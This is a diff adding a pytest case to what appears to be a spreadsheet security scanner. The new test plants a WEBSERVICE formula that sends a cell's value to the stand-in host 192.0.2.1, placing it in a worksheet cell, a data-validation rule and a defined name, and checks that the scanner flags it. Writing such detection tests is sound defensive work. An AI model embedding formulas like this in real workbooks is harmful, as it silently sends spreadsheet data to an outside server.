@@ -39,3 +39,28 @@ def test_each_kind_is_told(added, reason, n, shown):
 def test_what_belongs_to_any_workbook_is_not_told():
     parts = ("xl/printerSettings/printerSettings1.bin", "xl/media/image1.png", "xl/calcChain.xml")
     assert findings(read(rezip(good(), add=[(name, b"<x/>") for name in parts]), "a.xlsx")) == ()
+
+
+CALL = '_xlfn.WEBSERVICE("http://192.0.2.1/?"&amp;B9)'
+
+
+@pytest.mark.parametrize(
+    ("part", "old", "new"),
+    [
+        (
+            "xl/worksheets/sheet5.xml",
+            b"</sheetData>",
+            f'<row r="900"><c r="A900"><f>{CALL}</f><v>1</v></c></row></sheetData>',
+        ),
+        ("xl/worksheets/sheet5.xml", b"<formula1>", f"<formula1>{CALL}</formula1><formula1>"),
+        ("xl/workbook.xml", b"</definedNames>", f'<definedName name="n">{CALL}</definedName></definedNames>'),
+    ],
+)
+def test_formulas_that_fetch_are_told_wherever_they_stand(part, old, new):
+    def put(text):
+        assert old in text
+        return text.replace(old, new.encode(), 1)
+
+    (found,) = [f for f in findings(read(rezip(good(), {part: put}), "a.xlsx")) if f.rule == "STR-OUTSIDE"]
+    assert (found.reason, found.details) == ("functions", {"n": 1, "raw": '“WEBSERVICE("http://192.0.2.1/?"&B9)”'})
+    assert "192.0.2.1" in line_of(found, FORM, "zh")
